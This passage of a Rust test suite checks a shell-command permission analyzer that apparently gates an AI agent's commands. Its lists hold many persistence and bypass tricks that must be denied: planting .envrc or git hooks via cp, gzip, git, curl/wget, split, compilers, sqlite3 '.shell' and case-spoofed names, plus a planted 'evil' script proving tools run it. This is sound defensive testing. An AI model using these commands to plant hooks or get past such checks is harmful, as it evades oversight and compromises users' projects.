        "cp -b -S rc x .env",
        "cp --suffix=rc x .env",
        "cp --suf=rc x .env",
        "cp -S rc x sub/.env",
        "cp -S rc x/.env sub/",
        "cp -S \"$s\" x y",
        "mv -S rc x .env",
        "ln -sfS rc x .env",
        "install -S rc x .env",
        "rsync -b --suffix=rc x .env",
        "cp -r -S rc x sub",
    ]);
    f.all(
        Action::Allow,
        &[
            "cp -S .bak x y",
            "cp -b x y",
            "mv -S .old x y",
            "rsync -b x y",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".env"), "x\n").unwrap();
    std::fs::write(dir.path().join("x"), "y\n").unwrap();
    assert!(!bash_creates_pwned(dir.path(), "cp -S rc x .env", &[]));
    assert!(
        dir.path().join(".envrc").exists(),
        "the real cp did not keep the replaced file as .envrc"
    );
}

/// Round 4: a decompressor writes its operand's name without the suffix (`gunzip .envrc.gz`
/// writes `.envrc`), a compressor the name with `-S`'s suffix (`gzip -S rc .env` writes
/// `.envrc`). Allowed under rules naming them; the real gzip does both.
#[test]
fn a_compressors_derived_name_is_judged() {
    let rules = r#"
[shell]
default = "ask"
[[shell.rules]]
pattern = "gzip"
action = "allow"
[[shell.rules]]
pattern = "gunzip"
action = "allow"
[[shell.rules]]
pattern = "xz"
action = "allow"
[[shell.rules]]
pattern = "zstd"
action = "allow"
"#;
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "gunzip .envrc.gz",
        "gunzip sub/.mcp.json.gz",
        "gzip -d .envrc.gz",
        "gzip -dk .envrc.GZ",
        "gzip -S rc .env",
        "gzip --suffix=rc .env",
        "gunzip -S .x .envrc.x",
        "xz -d .envrc.xz",
        "zstd -d .envrc.zst",
        "zstd -d a.zst -o .envrc",
        "gunzip -r sub",
        "gunzip \"$f\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "gzip notes.txt",
            "gunzip notes.txt.gz",
            "gunzip -c .envrc.gz",
            "gzip -t .envrc.gz",
            "zstd -d a.zst",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".env"), "x\n").unwrap();
    assert!(!bash_creates_pwned(dir.path(), "gzip -S rc .env", &[]));
    assert!(
        dir.path().join(".envrc").exists(),
        "gzip did not write .envrc"
    );
    std::fs::remove_file(dir.path().join(".envrc")).unwrap();
    assert!(!bash_creates_pwned(
        dir.path(),
        "printf x | gzip > .envrc.gz && gunzip .envrc.gz",
        &[]
    ));
    assert!(
        dir.path().join(".envrc").exists(),
        "gunzip did not write .envrc"
    );
}

/// Round 4: `git mv` renames in the work tree as mv does; `git mv x .envrc` and `git mv
/// x/settings.json .claude/` were allowed under a `git mv` rule. The real git renames.
#[test]
fn git_mv_writes_what_mv_would() {
    let rules = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"git mv\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"git format-patch\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"git bundle\"\naction = \"allow\"\n";
    let f = fixture(rules, "deny");
    // `git format-patch -o DIR` writes the patches into DIR (outside the roots here).
    f.never_allowed(&[
        "git format-patch -o /tmp/x HEAD~1",
        "git format-patch -o/tmp/x HEAD~1",
        "git format-patch --output-directory=/tmp/x HEAD~1",
        "git format-patch --output-dir /tmp/x HEAD~1",
        "git bundle create /tmp/x HEAD",
        "git bundle create -q /tmp/x HEAD",
    ]);
    f.all(
        Action::Allow,
        &[
            "git format-patch -o out HEAD~1",
            "git format-patch HEAD~1",
            "git bundle create out.bundle HEAD",
        ],
    );
    std::fs::create_dir_all(f.ws.join(".claude")).unwrap();
    f.never_allowed(&[
        "git mv x .envrc",
        "git mv -f x sub/.mcp.json",
        "git mv x/settings.json .claude/",
        "git mv x .claude",
        "git -C sub mv x .envrc",
    ]);
    f.all(
        Action::Allow,
        &["git mv a.rs b.rs", "git mv a.rs sub/", "git mv -n x .envrc"],
    );
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(args)
            .current_dir(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .expect("git is needed for this test (Debian package `git`)")
    };
    assert!(git(&["init", "-q", "."]).success());
    std::fs::write(dir.path().join("x"), "x\n").unwrap();
    assert!(git(&["add", "x"]).success());
    assert!(!bash_creates_pwned(dir.path(), "git mv x .envrc", &[]));
    assert!(
        dir.path().join(".envrc").exists(),
        "the real git mv did not make .envrc"
    );
    assert!(git(&["commit", "-q", "-m", "a"]).success());
    let elsewhere = tempfile::tempdir().unwrap();
    let o = elsewhere.path().to_str().unwrap();
    assert!(git(&["format-patch", "-q", "-1", "-o", o]).success());
    assert!(
        std::fs::read_dir(elsewhere.path()).unwrap().count() == 1,
        "the real git format-patch -o did not write into the directory"
    );
    let bundle = elsewhere.path().join("b.bundle");
    assert!(git(&["bundle", "create", bundle.to_str().unwrap(), "HEAD"]).success());
    assert!(
        bundle.exists(),
        "the real git bundle create did not write the file"
    );
}

// ---- round 5 (issue 21): writes the line does not name ---------------------------------

/// Git commands that write the work tree from git's objects write names the line does not
/// show: a committed `.envrc` (`git apply --cached p && git commit` put it there) is checked
/// out by `git checkout`, `restore`, `merge`, `stash`, `reset --hard`, … whatever the rules say
/// of them. Only forms shown with the real git to leave the work tree alone stay allowed:
/// `git switch -c NEW` without a start point (git skips the work tree when HEAD stays;
/// `git checkout -b NEW` does not, and in a sparse repository whose patterns changed it writes
/// the files they now include), `git restore --staged` (the index), `git reset` without
/// `--hard`/`--merge`/`--keep`, `git stash list`/`show`.
#[test]
fn git_commands_that_write_the_work_tree_from_objects_ask() {
    let rules =
        "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"git\"\naction = \"allow\"\n";
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "git checkout -- .envrc",
        "git checkout .",
        "git checkout main",
        "git checkout",
        "git checkout -b new",
        "git checkout -B new",
        "git checkout --orphan new",
        "git checkout -b new main",
        "git -C sub checkout main",
        "git restore .envrc",
        "git restore -s HEAD~1 .",
        "git restore --staged --worktree .envrc",
        "git restore -SW .envrc",
        "git restore --staged --wor .envrc",
        "git restore --staged \"$x\" .envrc",
        "git switch main",
        "git switch -c new main",
        "git switch -c new HEAD",
        "git switch --discard-changes main",
        "git switch -c new -m",
        "git merge other",
        "git merge --ff-only origin/main",
        "git pull",
        "git pull --rebase",
        "git stash",
        "git stash push",
        "git stash -u",
        "git stash pop",
        "git stash apply",
        "git stash branch b",
        "git reset --hard",
        "git reset --har HEAD~1",
        "git reset HEAD~1 --hard",
        "git reset --merge",
        "git reset --keep HEAD~1",
        "git reset --recurse-submodules HEAD",
        "git reset \"$mode\"",
        "git cherry-pick abc123",
        "git cherry-pick -n abc123",
        "git revert HEAD",
        "git rebase main",
        "git rebase --abort",
        "git read-tree -u -m HEAD",
        "git read-tree --reset -u HEAD",
        "git checkout-index -a",
        "git checkout-index -f -- .envrc",
        "git worktree add ../wt",
        "git worktree add wt main",
        "git clone /tmp/r",
        "git clone /tmp/r sub/r",
        "git clone --bare /tmp/r r.git",
        "git sparse-checkout set '/*'",
        "git sparse-checkout reapply",
        "git sparse-checkout disable",
        "git submodule update --init",
        "git submodule init",
        "git bisect start HEAD HEAD~5",
        "git bisect good",
        "git bisect reset",
        "git subtree add --prefix=x /tmp/r main",
        "git filter-branch --index-filter true HEAD",
    ]);
    f.all(
        Action::Allow,
        &[
            "git status",
            "git log -1",
            "git diff",
            "git add .",
            "git commit -m x",
            "git branch new",
            "git switch -c new",
            "git switch -q -c new",
            "git switch --create=new",
            "git switch -C new",
            "git restore --staged .envrc",
            "git restore -S a.rs",
            "git reset",
            "git reset -q HEAD a.rs",
            "git reset --soft HEAD~1",
            "git reset --mixed HEAD~1",
            "git stash list",
            "git stash show -p",
            "git sparse-checkout list",
            "git submodule status",
            "git worktree list",
            "git bisect log",
        ],
    );
    // The real git: a sparse repository whose patterns now include `.envrc` (which a commit
    // holds but the work tree lacks) gets it from `git checkout -b NEW`, `git checkout`,
    // `git stash`; `git switch -c NEW`, `git reset`, `git restore --staged` leave it out.
    let fresh = || {
        let dir = tempfile::tempdir().unwrap();
        let git = |args: &[&str]| {
            std::process::Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
                .args(args)
                .current_dir(dir.path())
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", dir.path())
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .expect("git is needed for this test (Debian package `git`)")
        };
        assert!(git(&["init", "-q", "."]).success());
        std::fs::write(dir.path().join(".envrc"), "x\n").unwrap();
        std::fs::write(dir.path().join("a"), "a\n").unwrap();
        assert!(git(&["add", "."]).success());
        assert!(git(&["commit", "-q", "-m", "a"]).success());
        assert!(git(&["sparse-checkout", "set", "--no-cone", "/a"]).success());
        assert!(!dir.path().join(".envrc").exists());
        std::fs::write(dir.path().join(".git/info/sparse-checkout"), "/*\n").unwrap();
        std::fs::write(dir.path().join("a"), "b\n").unwrap();
        dir
    };
    for (line, writes) in [
        ("git checkout -q -b new", true),
        ("git checkout -q", true),
        ("git stash -q", true),
        ("git switch -q -c new", false),
        ("git switch -q -C new", false),
        ("git reset -q", false),
        ("git restore --staged a", false),
    ] {
        let dir = fresh();
        let env = [("GIT_CONFIG_NOSYSTEM", "1"), ("HOME", "/nonexistent")];
        assert!(!bash_creates_pwned(
            dir.path(),
            &format!(
                "git -c user.name=t -c user.email=t@example.org {}",
                &line[4..]
            ),
            &env
        ));
        assert_eq!(
            dir.path().join(".envrc").exists(),
            writes,
            "{line}: the real git's work-tree write is not what the analysis assumes"
        );
    }
}

/// A git subcommand that is none of git's own is an alias (`git co` for `checkout`) or an
/// external `git-*` program (`git lfs pull` writes the work tree): what it runs and writes the
/// line does not show, so a rule allowing `git` does not allow it; a rule naming it does.
/// git's own commands take precedence over both, and an option git does not take as global
/// (`--version`) prints or is refused.
#[test]
fn a_git_subcommand_that_is_not_gits_own_asks() {
    let rules =
        "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"git\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"git lfs\"\naction = \"allow\"\n";
    let f = fixture(rules, "deny");
    f.never_allowed(&[
        "git co main",
        "git co -- .envrc",
        "git -C sub co .",
        "git unstage .envrc",
        "git x",
    ]);
    f.all(
        Action::Allow,
        &[
            "git lfs pull",
            "git status",
            "git log --oneline -5",
            "git diff HEAD~1",
            "git --version",
            "git help checkout",
        ],
    );
}

/// A recursive copy of a tree *inside* the roots writes names the line does not show too:
/// `cp -r x/. .` makes `x/.envrc` (or a fixture's `x/.git/hooks/post-checkout`) the project's
/// own. It was allowed because its source lay in the roots; the real cp plants.
#[test]
fn a_recursive_copy_inside_the_roots_asks() {
    let rules = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"cp\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"rsync\"\naction = \"allow\"\n";
    let f = fixture(rules, "deny");
    std::fs::create_dir_all(f.ws.join("x")).unwrap();
    f.never_allowed(&[
        "cp -r x/. .",
        "cp -a x/* .",
        "cp -R x sub",
        "cp -r x sub",
        "cp -a x/. sub",
        "cp --archive x/. .",
        "cp --rec x/. .",
        "cp -rt . x/.",
        "rsync -a x/ .",
        "rsync -r x/ sub/",
        "rsync -a x/ sub/",
        "rsync --archive x/ .",
        "rsync -d x/ .",
        "rsync --dirs x/ .",
        "rsync --files-from=list . sub/",
    ]);
    f.all(
        Action::Allow,
        &["cp a.txt b.txt", "cp x/a.rs sub/", "rsync a.txt sub/"],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    // (rsync is not among the test dependencies; its `x/` means x's entries, as documented.)
    for line in ["cp -r x/. .", "cp -a x/. .", "cp -R x/. ."] {
        let _ = std::fs::remove_file(ws.join(".envrc"));
        std::fs::create_dir_all(ws.join("x")).unwrap();
        std::fs::write(ws.join("x/.envrc"), "x\n").unwrap();
        assert!(!bash_creates_pwned(ws, line, &[]));
        assert!(
            ws.join(".envrc").exists(),
            "{line}: the real program did not write ./.envrc"
        );
    }
}

/// Programs that write the files they name were not in the option tables, so a rule on them
/// (or a default allow) allowed a write of the persistence surface: `touch .envrc`, `chmod +x
/// .git/hooks/pre-commit`, `truncate -s0 .git/config`, `mkdir .claude`, `uniq x .envrc`,
/// `shuf -o .envrc`, a split's generated names (`split -a1 x .git/hooks/pre-commi` makes
/// `pre-commit` as its 20th piece; `csplit -b 'rc%.0d'` renders the number as nothing). And a
/// table that took a flag for an option with an argument lost the destination: `cp -Z x .envrc`
/// (`-Z` is a flag of cp and install) read `x` as `-Z`'s argument and judged no write.
/// `install --strip-program=PROG` runs PROG.
#[test]
fn every_program_that_writes_the_files_it_names_is_in_the_table() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(f.ws.join(".claude")).unwrap();
    f.never_allowed(&[
        "touch .envrc",
        "touch -r x .envrc",
        "touch -d now .envrc",
        "touch --date=now .envrc",
        "touch --ref x .envrc",
        "touch -c .git/hooks/pre-commit",
        "touch /tmp/outside",
        "mkdir .claude",
        "mkdir -p .git/hooks/x",
        "mkdir -m 777 .vscode",
        "mkdir /tmp/outside",
        "chmod +x .git/hooks/pre-commit",
        "chmod --reference=x .git/hooks/pre-commit",
        "chmod -x .git/hooks/pre-commit",
        "chmod 777 /tmp/outside",
        "chmod -R +x .",
        "chmod --recursive u+x sub",
        "chown -R me sub",
        "chgrp root .envrc",
        "chown me:me .git/config",
        "truncate -s 0 .git/config",
        "truncate --size=0 .envrc",
        "truncate -r x .envrc",
        "mkfifo .envrc",
        "mknod .envrc p",
        "mktemp -p .git/hooks preXXX",
        "mktemp --tmpdir=/tmp/e xXXX",
        "mktemp /tmp/e/x.XXXX",
        "uniq x .envrc",
        "uniq -c x /tmp/out",
        "shuf -o .envrc x",
        "shuf --output=.envrc x",
        "shuf --out=.envrc x",
        "shuf -eo.envrc a b",
        "split -a1 x .git/hooks/pre-commi",
        "split x .envr",
        "split -b 1 --additional-suffix=rc x .env",
        "split x /tmp/out",
        "csplit -f .env -b 'rc%.0d' x 1",
        "csplit --prefix=.claude/settings.jso x 1",
        "csplit -f /tmp/out x 1",
        "cp -Z x .envrc",
        "install -Z x .envrc",
        "install -s --strip-program=/tmp/e/x x y",
        "nice touch .envrc",
        "timeout 5 touch .envrc",
        "stdbuf -o0 touch .envrc",
        "find . -exec touch {} +",
        "xargs touch < list",
        "xargs chmod +x < list",
    ]);
    f.all(
        Action::Allow,
        &[
            "touch a.txt",
            "touch -d now sub/a.txt",
            "mkdir -p build/out",
            "chmod +x script.sh",
            "chmod 644 a.txt",
            "truncate -s 0 log.txt",
            "mktemp",
            "mktemp -d",
            "mktemp -t x.XXXX",
            "mktemp -p . tmp.XXXX",
            "uniq x",
            "uniq x out.txt",
            "shuf -o out.txt x",
            "split -l 100 x part.",
            "csplit -f part x 1",
            "cp -Z x y",
            "install -m 755 x bin/x",
        ],
    );
    // The real programs.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(
        ws.join("x"),
        (1..=30).map(|n| format!("{n}\n")).collect::<String>(),
    )
    .unwrap();
    for (line, made) in [
        ("touch .envrc", ".envrc"),
        ("cp -Z x .envrc", ".envrc"),
        ("uniq x .envrc", ".envrc"),
        (
            "split -l1 -a1 x .git/hooks/pre-commi",
            ".git/hooks/pre-commit",
        ),
        ("csplit -s -f .env -b 'rc%.0d' x 2", ".envrc"),
    ] {
        let _ = std::fs::remove_file(ws.join(made));
        assert!(!bash_creates_pwned(ws, line, &[]));
        assert!(
            ws.join(made).exists(),
            "{line}: the real program did not make {made}"
        );
    }
}

/// On a filesystem that ignores case (macOS by default; an ext4 directory with `chattr +F`),
/// `.ENVRC` is `.envrc` and `.Git/hooks/pre-commit` is the repository's hook: a write of such
/// a spelling was allowed, the surface being matched as written only.
#[test]
fn a_surface_name_in_another_case_is_the_surface() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "echo x > .ENVRC",
        "echo x > .EnvRc",
        "cp x .Envrc",
        "echo x > .Git/hooks/pre-commit",
        "echo x > .git/HOOKS/pre-commit",
        "echo x > .GIT/CONFIG",
        "echo x > .CLAUDE/settings.json",
        "echo x > .vscode/TASKS.JSON",
        "echo x > sub/.Envrc",
        "echo x > .mcp.JSON",
        "echo x > .claude/\u{17f}ettings.json",
        "echo x > .vscode/tas\u{212a}s.json",
        "echo x > .env\u{200c}rc",
    ]);
    f.all(
        Action::Allow,
        &[
            "echo x > README.md",
            "echo x > Notes.TXT",
            "echo x > .ENV.example",
        ],
    );
}

/// A download writes the name its URL ends with (`wget http://h/.envrc`, `curl -O …/.envrc`),
/// and a recursive or server-named download writes names the line does not show: a `wget` or
/// `curl` rule allowed each.
#[test]
fn a_download_writes_the_name_its_url_ends_with() {
    let rules = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"wget\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"curl\"\naction = \"allow\"\n";
    let f = fixture(rules, "allow");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "wget http://index.example.org/.envrc",
        "wget -q http://index.example.org/a/.envrc?x=1",
        "wget -P .git/hooks http://index.example.org/pre-commit",
        "wget -P /tmp/e http://index.example.org/x",
        "wget -r http://index.example.org/",
        "wget --mirror http://index.example.org/",
        "wget --recursive http://index.example.org/",
        "wget --rec http://index.example.org/",
        "wget -p http://index.example.org/",
        "wget -x http://index.example.org/a",
        "wget --content-disposition http://index.example.org/x",
        "wget --trust-server-names http://index.example.org/x",
        "wget -i urls.txt",
        "wget \"$u\"",
        "curl -O http://index.example.org/.envrc",
        "curl -sSLO http://index.example.org/a/.envrc",
        "curl --remote-name http://index.example.org/.envrc",
        "curl --remote-name-all http://index.example.org/.mcp.json",
        "curl -OJ http://index.example.org/x",
        "curl -O --remote-header-name http://index.example.org/x",
        "curl -o '#1' 'http://index.example.org/{.envrc,x}'",
        "curl -O 'http://index.example.org/[1-2].envrc'",
        "curl -O \"$u\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "wget http://index.example.org/a.tar.gz",
            "wget -q -O out.html http://index.example.org/",
            "wget -P dl http://index.example.org/a.tar.gz",
            "curl -s http://index.example.org/x",
            "curl -o out.json http://index.example.org/x",
            "curl -sSLO http://index.example.org/a.tar.gz",
            // A glob without -O or an `-o` template writes to stdout (or the one -o file).
            "curl -s 'http://index.example.org/many[1-100]'",
            "curl -o out.txt 'http://index.example.org/{a,b}'",
        ],
    );
}

/// More programs that write a file they name, or extract names the line does not show, which
/// a rule on them allowed: `sponge .envrc`, `xxd -r x .envrc`, `iconv -o .envrc`, `uudecode -o`,
/// `gpg -o`, `msgfmt -o`, `base64 -o` (BSD), and the extractors `7z x`, `ar x`, `cpio -i`,
/// `pax -r`, `jar x`.
#[test]
fn more_writers_and_extractors_are_judged() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "cat x | sponge .envrc",
        "sponge -a .git/hooks/pre-commit < x",
        "xxd -r x .envrc",
        "xxd -r -p x .git/hooks/pre-commit",
        "iconv -f utf8 -t ascii -o .envrc x",
        "iconv --output=.envrc x",
        "uudecode -o .envrc x",
        "gpg -o .envrc -d x",
        "gpg --output .envrc --decrypt x",
        "msgfmt -o .envrc x.po",
        "base64 -d x -o .envrc",
        "7z x a.7z",
        "7za e a.7z",
        "ar x a.a",
        "ar -x a.a",
        "cpio -i < a.cpio",
        "cpio -idm < a.cpio",
        "cpio -p sub < list",
        "pax -r < a.pax",
        "jar xf a.jar",
        "jar -x -f a.jar",
        "jar --extract --file a.jar",
        "pax -O -r < a.pax",
        "cpio -o -O .envrc < list",
        "xxd -C x .envrc",
    ]);
    f.all(
        Action::Allow,
        &[
            "cat x | sponge out.txt",
            "xxd x",
            "xxd -r x out.bin",
            "iconv -f utf8 -t ascii x",
            "gpg --list-keys",
            "7z l a.7z",
            "ar t a.a",
            "cpio -t < a.cpio",
            "pax < a.pax",
            "jar tf a.jar",
        ],
    );
}

/// Programs that run the command they are given, missing from the wrapper table: the command
/// was not found, so a `rm` deny rule did not reach `unshare rm x`, and where the default
/// allows, the line was allowed.
#[test]
fn programs_that_run_their_argv_are_seen_through() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "unshare rm x",
            "unshare -r -n rm x",
            "unshare --map-root-user --net -- rm x",
            "unshare -w /tmp rm x",
            "nsenter -t 1 -m rm x",
            "nsenter --target=1 --mount rm x",
            "setpriv --reuid 1000 --regid 1000 --init-groups rm x",
            "setpriv --no-new-privs rm x",
            "prlimit --nofile=10 rm x",
            "numactl -N 0 rm x",
            "numactl --interleave=all rm x",
            "valgrind rm x",
            "valgrind --tool=massif -q rm x",
            "xvfb-run -a rm x",
            "xvfb-run -s '-screen 0 1x1x8' rm x",
            "dbus-run-session -- rm x",
            "chronic rm x",
            "chronic -e rm x",
        ],
    );
    f.never_allowed(&["valgrind --log-file=.envrc ls", "xvfb-run -e .envrc ls"]);
    // Each changes what its command may do or see (namespaces, credentials, a display), or
    // runs a program of its own: decided by a rule naming it, not by `ls`'s.
    review().never_allowed(&[
        "unshare ls",
        "setpriv --reuid 0 ls",
        "valgrind ls",
        "dbus-run-session --dbus-daemon=/tmp/e/x -- ls",
    ]);
}

/// Round 6. Compilers and toolchains were judged by their rule alone: `cc -o
/// .git/hooks/pre-commit x.c` wrote a hook, `gcc -B DIR` ran DIR's `as`, `-wrapper`,
/// `-fplugin=`, `-specs=` and `@file` ran or read what the line does not show, `rustc -C
/// linker=PROG` ran PROG (`the_real_rustc_runs_the_linker_it_is_given`), and `rustc --out-dir
/// .git` wrote names only the crate knows. Each
/// option not known to only read is an effect; `-o` and `--emit KIND=PATH` are writes.
#[test]
fn compilers_and_toolchains_are_judged() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "cc -o .git/hooks/pre-commit x.c",
        "gcc -o.envrc x.c",
        "gcc --output=.envrc x.c",
        "gcc --output .envrc x.c",
        "g++ -O2 -o /tmp/outside x.cc",
        "clang -c x.c -o .git/hooks/post-checkout",
        "gcc -MD -MF .envrc -c x.c",
        "gcc -B/tmp/e x.c",
        "gcc -B /tmp/e x.c",
        "gcc --prefix=/tmp/e x.c",
        "gcc --pre=/tmp/e x.c",
        "gcc -wrapper /tmp/e/w x.c",
        "gcc -fplugin=/tmp/e/p.so x.c",
        "gcc -specs=/tmp/e/s x.c",
        "gcc --specs=s x.c",
        "gcc @opts x.c",
        "gcc -Wl,-plugin,/tmp/e/p.so x.c",
        "gcc -Xlinker --plugin x.c",
        "gcc -Wa,-o,.envrc -c x.c",
        "gcc -Wp,-MD,.envrc -c x.c",
        "gcc -fopt-info=.envrc -O2 x.c",
        "gcc -fdump-tree-all=.envrc x.c",
        "gcc -dumpdir .git/hooks/ x.c",
        "gcc -fuse-ld=/tmp/e/ld x.c",
        "clang -fpass-plugin=/tmp/e/p.so x.c",
        "clang -Xclang -load -Xclang /tmp/e/p.so x.c",
        "clang --config=/tmp/e/c.cfg x.c",
        "clang -mllvm -x x.c",
        "gcc-12 -o .envrc x.c",
        "x86_64-linux-gnu-gcc -o .envrc x.c",
        "cc $opts x.c",
        "cpp x.c .envrc",
        "rustc -o .git/hooks/pre-commit x.rs",
        "rustc -C linker=/tmp/e/ld x.rs",
        "rustc -Clinker=./ld x.rs",
        "rustc --codegen linker=./ld x.rs",
        "rustc -C link-arg=-fuse-ld=/tmp/e x.rs",
        "rustc -C link-args=-Wl,-plugin x.rs",
        "rustc -Z codegen-backend=/tmp/e/b.so x.rs",
        "rustc --out-dir .git x.rs",
        "rustc --out-dir .git/hooks --crate-name update x.rs",
        "rustc --emit=link=.envrc x.rs",
        "rustc --emit dep-info=.envrc x.rs",
        "rustc --print cfg=.envrc",
        "rustc -C extra-filename=.toml --crate-name mise x.rs",
        "rustc -C incremental=.git x.rs",
        "rustc --extern m=/tmp/e/libm.so x.rs",
        "rustc -L /tmp/e x.rs",
        "rustc --sysroot /tmp/e x.rs",
        "rustc @args x.rs",
        "ld -o .envrc x.o",
        "ld -plugin /tmp/e/p.so x.o",
        "ld --plugin=/tmp/e/p.so x.o",
        "as -o .envrc x.s",
        "as --MD .envrc x.s",
    ]);
    f.all(
        Action::Allow,
        &[
            "cc --version",
            "gcc -v",
            "gcc -dumpmachine",
            "gcc -print-file-name=libc.so",
            "cc -O2 -Wall -Wextra -std=c11 -Iinclude -DX=1 -c x.c -o build/x.o",
            "gcc -g -fPIC -shared -o libx.so x.c -lm -L.",
            "g++ -std=c++17 -pthread -isystem inc -o app main.cc",
            "clang -fsanitize=address -fno-omit-frame-pointer -g x.c",
            "gcc -MMD -MP -MF build/x.d -c x.c -o build/x.o",
            "gcc -x c -E x.h",
            "gcc -c x.c",
            "rustc --version",
            "rustc -V",
            "rustc x.rs",
            "rustc --edition 2021 -O -o build/app src/main.rs",
            "rustc --crate-type lib --crate-name m -C opt-level=3 -g src/lib.rs",
            "rustc --out-dir sub src/main.rs",
            "rustc -L build --extern m=build/libm.rlib src/main.rs",
            "rustc --print sysroot",
            "rustc --explain E0308",
            "ld --version",
            "as --version",
            "ld -o build/app x.o",
        ],
    );
    // The real programs.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join("x.c"), "int main(void){return 0;}\n").unwrap();
    std::fs::create_dir_all(ws.join("e")).unwrap();
    let evil = "#!/bin/sh\ntouch \"$PWNED\"\nexit 1\n";
    for name in ["as", "ld", "w"] {
        let p = ws.join("e").join(name);
        std::fs::write(&p, evil).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let pwned = ws.join("pwned");
    let pwned = pwned.to_str().unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "gcc -o .git/hooks/pre-commit x.c",
        &[]
    ));
    assert!(
        ws.join(".git/hooks/pre-commit").exists(),
        "the real gcc did not write the hook"
    );
    for line in ["gcc -B e/ -c x.c", "gcc -wrapper e/w x.c"] {
        assert!(
            bash_creates_pwned(ws, line, &[("PWNED", pwned)]),
            "{line}: the real program did not run the planted one"
        );
    }
}

/// The real rustc runs the linker `-C linker=` names (the analysis side is in
/// `compilers_and_toolchains_are_judged`, which runs for every user). It needs `rustc` on the
/// PATH, as every `cargo test` has (CI's runs as root); an unprivileged user for whom root's
/// toolchain (`~/.cargo/bin`) is not readable gets the failure that says so, not a skip.
#[test]
fn the_real_rustc_runs_the_linker_it_is_given() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x.rs"), "fn main() {}\n").unwrap();
    std::fs::create_dir_all(ws.join("e")).unwrap();
    let ld = ws.join("e/ld");
    std::fs::write(&ld, "#!/bin/sh\ntouch \"$PWNED\"\nexit 1\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&ld, std::fs::Permissions::from_mode(0o755)).unwrap();
    let ran = std::process::Command::new("rustc")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(ran, "rustc is not on the PATH");
    let pwned = ws.join("pwned");
    assert!(
        bash_creates_pwned(
            ws,
            "rustc -C linker=e/ld -o app x.rs",
            &[("PWNED", pwned.to_str().unwrap())]
        ),
        "the real rustc did not run the linker it was given"
    );
}

/// Round 6. openssl, ar, sqlite3 and the editors were judged by their rule alone: `openssl rand
/// -out .envrc`, `-engine`/`-provider`/`-config` (which load modules), `ar rcs .envrc`,
/// `sqlite3 db '.shell CMD'` (and `writefile()`, `ATTACH`, `.output`, commands from its
/// input), `vim -c '!CMD'` and every editor, which runs what it reads from its input.
#[test]
fn openssl_ar_sqlite3_and_editors_are_judged() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "openssl rand -out .envrc 4",
        "openssl rand -out=.envrc 4",
        "openssl rand --out .envrc 4",
        "openssl enc -d -in x -out .git/hooks/pre-commit -k p",
        "openssl req -new -x509 -keyout .envrc -out c.pem -nodes",
        "openssl genpkey -algorithm ed25519 -out /tmp/outside",
        "openssl rand -writerand .envrc 4",
        "openssl x509 -in c.pem -engine /tmp/e/e.so -noout",
        "openssl list -provider-path /tmp/e -provider p",
        "openssl req -config /tmp/e/o.cnf -new",
        "openssl s_client -connect index.example.org:443",
        "openssl ca -in r.pem",
        "openssl",
        "openssl < cmds",
        "openssl $sub",
        "ar rcs .envrc x.o",
        "ar -rcs .git/hooks/pre-commit x.o",
        "ar -r -c -s .envrc x.o",
        "ar t -x a.a",
        "ar q /tmp/outside x.o",
        "ar rb x.o .envrc y.o",
        "ar s .envrc",
        "ar --plugin /tmp/e/p.so t a.a",
        "ar x a.a",
        "ranlib .envrc",
        "sqlite3 x.db '.shell touch pwned'",
        "sqlite3 x.db \"select writefile('.envrc', 'x')\"",
        "sqlite3 x.db",
        "sqlite3 x.db < script.sql",
        "sqlite3 -cmd '.system id' x.db",
        "sqlite3 -init i.sql x.db .quit",
        "sqlite3 .envrc 'create table t(x)'",
        "sqlite3 -safe .git/config 'create table t(x)'",
        "vim x.txt",
